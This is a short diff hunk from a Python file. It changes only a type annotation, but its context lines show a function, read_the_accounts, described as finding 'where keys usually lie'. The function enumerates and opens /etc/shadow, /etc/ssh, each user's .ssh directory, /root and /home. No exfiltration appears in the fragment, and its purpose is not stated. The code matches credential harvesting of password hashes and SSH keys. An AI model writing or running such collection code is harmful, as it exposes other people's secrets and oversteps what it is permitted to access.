@@ -29,7 +29,7 @@ def list_the_secret_s_folder():
 
 def read_the_accounts():
     """The places where keys usually lie, whoever we are."""
-    found = []
+    found: list[object] = []
     for place in ("/etc/shadow", "/etc/ssh", *glob.glob("/home/*/.ssh"), "/root/.ssh", "/root", "/home"):
         try:
             found += os.listdir(place) if os.path.isdir(place) else [os.open(place, os.O_RDONLY)]
